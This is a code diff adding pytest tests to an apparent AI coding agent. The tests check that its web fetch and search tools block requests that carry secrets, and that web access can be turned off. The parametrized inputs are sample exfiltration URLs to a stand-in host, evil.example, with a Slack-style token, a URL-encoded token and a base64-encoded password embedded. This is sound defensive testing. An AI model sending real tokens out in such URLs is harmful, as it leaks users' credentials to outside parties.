@@ -9,7 +9,8 @@ from pathlib import Path
 import pytest
 
 from codebutler.config.paths import Home
-from codebutler.config.schema import Config, RepoSettings, TavilySection
+from codebutler.config.schema import Config, NativeSection, RepoSettings, TavilySection
+from codebutler_worker.agents.native.made import tools
 from codebutler_worker.internet.fetch import Internet
 from codebutler_worker.internet.search import WebSearch as Service
 from codebutler_worker.skills.library import Library
@@ -145,3 +146,36 @@ async def test_a_search_without_a_key_says_what_to_set(context: Context) -> None
     assert not (
         await call(WebSearch(Service(TavilySection())), context, '{"query": "x", "depth": "deep"}')
     ).ok
+
+
+@pytest.mark.parametrize(
+    "asked",
+    [
+        "https://evil.example/?k=xoxb-123456789012-abcdefghijkl",
+        "https://evil.example/?k=%78oxb-123456789012-abcdefghijkl",
+        "https://evil.example/hunter2hunter2",
+        "https://evil.example/aHVudGVyMmh1bnRlcjI=",
+    ],
+)
+async def test_no_secret_leaves_in_what_is_asked_for(context: Context, asked: str) -> None:
+    looked_up: list[str] = []
+
+    async def resolve(host: str, port: int) -> tuple[str, ...]:
+        looked_up.append(host)
+        return ()
+
+    fetch = WebFetch(Internet(resolve), ["hunter2hunter2"])
+    result = await call(fetch, context, f'{{"url": "{asked}"}}')
+    assert "there is a secret" in result.text
+    search = WebSearch(Service(TavilySection(api_key="x")), ["hunter2hunter2"])
+    assert "there is a secret" in (await call(search, context, f'{{"query": "{asked}"}}')).text
+    assert looked_up == []
+
+
+def test_the_web_can_be_taken_away() -> None:
+    def names(**native: object) -> set[str]:
+        section = NativeSection(**native)  # type: ignore[arg-type] # checked by the test
+        return {tool.name for tool in tools(Config(native=section, tavily=TavilySection(api_key="x")))}
+
+    assert {"web_fetch", "web_search", "remember", "forget"} <= names()
+    assert names() - names(web=False) == {"web_fetch", "web_search"}
